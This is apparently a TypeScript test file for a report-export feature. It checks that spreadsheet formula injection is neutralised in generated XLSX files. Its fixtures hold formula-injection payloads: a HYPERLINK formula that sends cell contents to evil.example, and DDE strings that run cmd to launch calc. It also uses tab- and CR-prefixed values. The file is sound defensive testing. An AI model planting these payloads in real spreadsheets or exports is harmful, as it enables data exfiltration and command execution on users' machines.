// Text that a spreadsheet could read as a formula (=, +, -, @, tab, CR …) never becomes one in an
// XLSX the app writes: read back, every such cell is text that starts with an apostrophe.
import { readFileSync } from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { submitReport } from "~/models/report.server";
import { neutraliseFormula, formulaSafe } from "~/utils/spreadsheet";
import { buildRollup } from "../../jobs/rollup";
import { seededDatabase } from "../helpers/fixtures";

const HOSTILE = {
  progress: '=HYPERLINK("http://evil.example/?"&A1,"详情")',
  problems: "+1+cmd|' /C calc'!A0",
  nextSteps: "-2+3",
  coordination: "@SUM(1+1)*cmd|' /C calc'!A0",
};
const HEADING = "\t=1+1 全角＝号开头";
const TITLE = "\r=2+2 文件标题";
// What a spreadsheet reads as the start of a formula.
const LIVE = /^[=+\-@\t\r\n\0＝＋－＠]/;

describe("formulas in spreadsheets", () => {
  it("neutralises text a spreadsheet could read as a formula, and only that", () => {
    for (const s of ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "\0=1", "＝1+1", "－1"])
      expect(neutraliseFormula(s)).toBe(`'${s}`);
    for (const s of ["已完成 =1", "1-2", "", "'=1", "【说明】=1", " =1"])
      expect(neutraliseFormula(s)).toBe(s);
  });

  it("leaves numbers, dates and empty cells alone when rows go through formulaSafe", async () => {
    const wb = formulaSafe(new ExcelJS.Workbook());
    const ws = wb.addWorksheet("t");
    const when = new Date("2026-11-20T00:00:00Z");
    ws.addRow([-5, "=1", when, null]);
    ws.addRows([["+x", 3]]);
    expect(ws.getRow(1).values).toEqual([undefined, -5, "'=1", when]);
    expect(ws.getRow(2).values).toEqual([undefined, "'+x", 3]);
  });

  let f: Awaited<ReturnType<typeof seededDatabase>>;
  beforeAll(async () => {
    f = await seededDatabase();
    process.env.DUBAN_DATA_DIR = f.dir;
  });
  afterAll(() => f.cleanup());

  it("the roll-up ledger keeps hostile report text, headings and titles as text", async () => {
    const task = await f.task("sc-2023-trade-power-draft", "四.6");
    // A heading and a title as a document read in from outside could carry them.
    await f.db.task.update({ where: { id: task.id }, data: { heading: HEADING } });
    await f.db.document.update({ where: { id: task.documentId }, data: { title: TITLE } });
    const commerce = await f.user("LIAISON", "商务厅");
    await submitReport(f.db, {
      taskId: task.id,
      unitId: commerce.unitId!,
      authorId: commerce.id,
      relation: "LEAD",
      form: { period: "2026-11", status: "IN_PROGRESS", percent: 30, baseReportId: "", ...HOSTILE },
      now: new Date("2026-11-18T03:00:00Z"),
    });
    const report = await f.db.rollupReport.create({
      data: { period: "2026-11", documentId: task.documentId },
    });
    await buildRollup(f.db, report.id);
    const done = await f.db.rollupReport.findUniqueOrThrow({ where: { id: report.id } });
    const file = path.join(f.dir, done.xlsxFile!);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const texts: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === "string") texts.push(cell.value);
        }),
      ),
    );
    for (const text of [HOSTILE.progress, HOSTILE.problems, HEADING, TITLE, HOSTILE.coordination])
      // XML reads a CR as a line feed: what a spreadsheet sees too.
      expect(texts, text).toContain(`'${text}`.replace(/\r/g, "\n"));
    expect(texts.filter((t) => LIVE.test(t))).toEqual([]);
    // And in the file itself: no formula element in any sheet.
    const zip = await JSZip.loadAsync(readFileSync(file));
    const sheets = Object.keys(zip.files).filter(
      (n) => n.startsWith("xl/worksheets/") && !zip.files[n]!.dir,
    );
    for (const name of sheets)
      expect(await zip.file(name)!.async("string"), name).not.toMatch(/<f[ >]/);
  });
});
